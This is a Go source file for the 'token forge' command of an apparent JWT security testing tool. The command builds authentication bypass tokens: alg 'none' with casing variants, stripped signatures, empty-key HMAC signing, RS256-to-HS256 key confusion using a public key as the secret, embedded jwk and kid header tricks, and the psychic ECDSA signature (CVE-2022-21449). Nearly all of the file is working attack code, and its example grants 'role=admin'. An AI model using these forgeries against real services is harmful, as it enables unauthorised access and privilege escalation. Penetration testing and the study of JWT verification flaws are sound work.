package cli

import (
	"crypto"
	"crypto/rsa"
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"strings"

	"github.com/authprobe/authprobe/internal/jose"
	"github.com/spf13/cobra"
)

// forgeOpts are the flags of `token forge`.
type forgeOpts struct {
	set, del               []string
	none, strip, blankKey  bool
	casing                 string
	secret, secretFile     string
	alg, keyFile, kid      string
	jwk, psychic, secretOK bool
}

func newTokenForgeCmd(s IO) *cobra.Command {
	var o forgeOpts
	cmd := &cobra.Command{
		Use:   "forge TOKEN",
		Short: "Build an attack token from a JWT: tampered claims, alg none, stripped, re-signed, jwk, kid, psychic",
		Long: "Build one attack token from TOKEN (or - for stdin) and print it. Without a mode the claims\n" +
			"are changed and the original signature is kept. Modes: --none, --strip, --blank-key,\n" +
			"--secret/--secret-file, --key, --jwk, --psychic; --kid sets the header kid and signs\n" +
			"with --secret, --key or, alone, an empty HMAC key (the /dev/null trick).",
		Example: "  authprobe token forge --set role=admin --none --casing nOnE eyJ...\n" +
			"  authprobe token forge --set sub=1 --secret-file public.pem --alg HS256 eyJ...   # RS→HS confusion",
		Args: cobra.ExactArgs(1),
		RunE: func(cmd *cobra.Command, args []string) error {
			o.secretOK = cmd.Flags().Changed("secret")
			tok, err := readToken(s.In, args[0])
			if err != nil {
				return err
			}
			out, err := forge(tok, o)
			if err != nil {
				return err
			}
			_, err = fmt.Fprintln(s.Out, out)
			return err
		},
	}
	f := cmd.Flags()
	f.StringArrayVar(&o.set, "set", nil, "set a claim: NAME=VALUE, VALUE parsed as JSON when it parses, else a string (repeatable)")
	f.StringArrayVar(&o.del, "del", nil, "remove a claim (repeatable)")
	f.BoolVar(&o.none, "none", false, "declare alg none and drop the signature")
	f.StringVar(&o.casing, "casing", "none", "spelling of none for --none: none, None, NONE, nOnE, ...")
	f.BoolVar(&o.strip, "strip", false, "keep the header and drop the signature (header.payload.)")
	f.BoolVar(&o.blankKey, "blank-key", false, "sign with an empty HMAC key")
	f.StringVar(&o.secret, "secret", "", "sign with this HMAC secret")
	f.StringVar(&o.secretFile, "secret-file", "", "sign with the bytes of this file as HMAC secret (e.g. a public key PEM)")
	f.StringVar(&o.alg, "alg", "", "signing alg (default: the token's when it fits the key, else HS256, RS256 or the curve's ES alg)")
	f.StringVar(&o.keyFile, "key", "", "sign with this PEM private key (RSA or EC)")
	f.BoolVar(&o.jwk, "jwk", false, "embed a public key as the header jwk and sign with its private key (a fresh one unless --key)")
	f.StringVar(&o.kid, "kid", "", "set the header kid")
	f.BoolVar(&o.psychic, "psychic", false, "declare ES256/ES384 and send r = s = 0 (CVE-2022-21449)")
	return cmd
}

func forge(tok *jose.Token, o forgeOpts) (string, error) {
	if err := checkForgeFlags(o); err != nil {
		return "", err
	}
	base, err := applyClaims(tok, o)
	if err != nil {
		return "", err
	}
	switch {
	case o.none:
		return signWith(base, o, jose.NoneAs(o.casing))
	case o.strip:
		return base.SigningInput() + ".", nil
	case o.psychic:
		if o.alg != "" {
			if base, err = withHeader(base, map[string]any{"alg": o.alg}); err != nil {
				return "", err
			}
		}
		return jose.PsychicSignature(base, nil)
	case o.jwk:
		return forgeJWK(base, o)
	}
	signer, err := forgeSigner(base, o)
	if err != nil {
		return "", err
	}
	if signer == nil {
		if len(o.set) == 0 && len(o.del) == 0 {
			return "", usageErr("nothing to forge: give --set/--del or a mode (see --help)")
		}
		return base.Raw, nil // tampered: claims changed, original signature kept
	}
	return signWith(base, o, signer)
}

// checkForgeFlags rejects flag combinations that do not make one token.
func checkForgeFlags(o forgeOpts) error {
	var modes []string
	for name, on := range map[string]bool{"--none": o.none, "--strip": o.strip, "--blank-key": o.blankKey,
		"--secret": o.secretOK || o.secretFile != "", "--jwk": o.jwk, "--psychic": o.psychic,
		"--key": o.keyFile != "" && !o.jwk} {
		if on {
			modes = append(modes, name)
		}
	}
	sort.Strings(modes)
	switch {
	case len(modes) > 1:
		return usageErr("choose one of %s", strings.Join(modes, ", "))
	case o.casing != "none" && !o.none:
		return usageErr("--casing needs --none")
	case !strings.EqualFold(o.casing, "none"):
		return usageErr("--casing %q does not spell none", o.casing)
	case o.secretOK && o.secretFile != "":
		return usageErr("give --secret or --secret-file, not both")
	case o.kid != "" && (o.none || o.strip || o.psychic):
		return usageErr("--kid needs a signing mode (--secret, --secret-file, --key, --blank-key, --jwk)")
	case o.alg != "" && (o.none || o.strip):
		return usageErr("--alg does not apply to --none or --strip")
	case o.psychic && o.alg != "" && o.alg != "ES256" && o.alg != "ES384" && o.alg != "ES512":
		return usageErr("--psychic: --alg must be ES256, ES384 or ES512")
	}
	return nil
}

// forgeJWK embeds the public half of --key, or of a fresh key fitting --alg
// or the token's alg, as the header jwk and signs with it.
func forgeJWK(base *jose.Token, o forgeOpts) (string, error) {
	var key crypto.Signer
	var err error
	if o.keyFile != "" {
		key, err = readKey(o.keyFile)
	} else {
		alg := o.alg
		if alg == "" {
			alg = base.Alg()
		}
		if key, err = jose.GenerateKey(alg); err != nil && o.alg == "" {
			key, err = jose.GenerateKey("") // the token's alg is not asymmetric: RSA
		}
		if err != nil {
			err = usageErr("--jwk: %v", err)
		}
	}
	if err != nil {
		return "", err
	}
	head := map[string]any{}
	if o.alg != "" {
		if _, err := jose.SignerFor(key, o.alg); err != nil {
			return "", usageErr("--jwk: %v", err)
		}
		head["alg"] = o.alg // EmbeddedJWK keeps an RS/PS alg it finds
	}
	if o.kid != "" {
		head["kid"] = o.kid
	}
	if base, err = withHeader(base, head); err != nil {
		return "", err
	}
	out, err := jose.EmbeddedJWK(base, nil, key)
	if err != nil {
		return "", usageErr("--jwk: %v", err)
	}
	return out, nil
}

func signWith(base *jose.Token, o forgeOpts, s jose.Signer) (string, error) {
	if o.kid != "" {
		return jose.WithKid(base, o.kid, nil, s)
	}
	return base.Resign(nil, s)
}

// applyClaims returns tok with the --set and --del edits applied to its
// payload, header and signature segments kept verbatim.
func applyClaims(tok *jose.Token, o forgeOpts) (*jose.Token, error) {
	set := map[string]any{}
	for _, kv := range o.set {
		name, val, ok := strings.Cut(kv, "=")
		if !ok || name == "" {
			return nil, usageErr("--set %q: want NAME=VALUE", kv)
		}
		var v any = val
		if json.Valid([]byte(val)) {
			v = json.RawMessage(val)
		}
		set[name] = v
	}
	p, err := jose.SetClaims(tok.PayloadJSON, set, o.del...)
	if err != nil {
		return nil, usageErr("%v", err)
	}
	out, err := jose.Parse(tok.Header + "." + jose.B64(p) + "." + tok.Signature)
	if err != nil {
		return nil, fmt.Errorf("reparse edited token: %w", err)
	}
	return out, nil
}

func withHeader(tok *jose.Token, set map[string]any) (*jose.Token, error) {
	h, err := jose.SetHeader(tok.HeaderJSON, set)
	if err != nil {
		return nil, err
	}
	return jose.Parse(jose.Assemble(h, tok.PayloadJSON, tok.Signature))
}

// forgeSigner returns the signer the flags ask for, nil when none.
func forgeSigner(tok *jose.Token, o forgeOpts) (jose.Signer, error) {
	switch {
	case o.keyFile != "":
		key, err := readKey(o.keyFile)
		if err != nil {
			return nil, err
		}
		s, err := jose.SignerFor(key, keyAlg(tok, key, o.alg))
		if err != nil {
			return nil, usageErr("--key: %v", err)
		}
		return s, nil
	case o.secretOK || o.secretFile != "" || o.blankKey || o.kid != "":
		secret := []byte(o.secret)
		if o.secretFile != "" {
			b, err := os.ReadFile(o.secretFile)
			if err != nil {
				return nil, usageErr("--secret-file: %v", err)
			}
			secret = b
		}
		if o.blankKey {
			secret = nil
		}
		alg := o.alg
		if alg == "" {
			alg = "HS256"
			if a := tok.Alg(); strings.HasPrefix(a, "HS") {
				alg = a
			}
		}
		s, err := jose.HMAC(alg, secret)
		if err != nil {
			return nil, usageErr("%v", err)
		}
		return s, nil
	}
	if o.alg != "" {
		return nil, usageErr("--alg needs a signing mode (--secret, --key, --blank-key, --jwk, --psychic)")
	}
	return nil, nil
}

func readKey(path string) (crypto.Signer, error) {
	b, err := os.ReadFile(path)
	if err != nil {
		return nil, usageErr("--key: %v", err)
	}
	k, err := jose.ParsePrivateKeyPEM(b)
	if err != nil {
		return nil, usageErr("--key %s: %v", path, err)
	}
	return k, nil
}

// keyAlg picks the alg for an asymmetric key: --alg, else the token's alg
// when it suits the key, else the key type's default.
func keyAlg(tok *jose.Token, key crypto.Signer, alg string) string {
	if alg != "" {
		return alg
	}
	a := tok.Alg()
	switch key.(type) {
	case *rsa.PrivateKey:
		if len(a) == 5 && (a[:2] == "RS" || a[:2] == "PS") {
			return a
		}
	}
	return ""
}
